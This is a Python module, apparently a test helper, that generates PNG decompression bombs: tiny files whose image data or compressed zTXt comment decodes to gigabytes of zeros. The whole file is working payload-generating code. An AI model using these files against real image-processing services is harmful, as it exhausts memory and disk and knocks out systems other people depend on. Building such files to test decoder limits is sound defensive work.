"""PNG images of some kilobytes that decode to gigabytes (PNG specification, 3rd edition)."""

import struct
import zlib


def chunk(name: bytes, content: bytes) -> bytes:
    """Return a PNG chunk with its checksum."""
    checksum = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", checksum)


def deflated_zeros(size: int) -> bytes:
    """Return `size` zeros as a zlib stream, a thousandth of that."""
    pack, block = zlib.compressobj(9), bytes(1 << 20)
    parts = [pack.compress(block) for _ in range(size // len(block))]
    return b"".join([*parts, pack.compress(bytes(size % len(block))), pack.flush()])


def png_bomb(width: int, height: int, extra: bytes = b"") -> bytes:
    """Return a black grey-scale image of any size."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = deflated_zeros((width + 1) * height)
    parts = (chunk(b"IHDR", header), extra, chunk(b"IDAT", data), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def png_text_bomb(size: int) -> bytes:
    """Return a small image with a compressed text of `size` bytes."""
    return png_bomb(64, 64, chunk(b"zTXt", b"Comment\0\0" + deflated_zeros(size)))
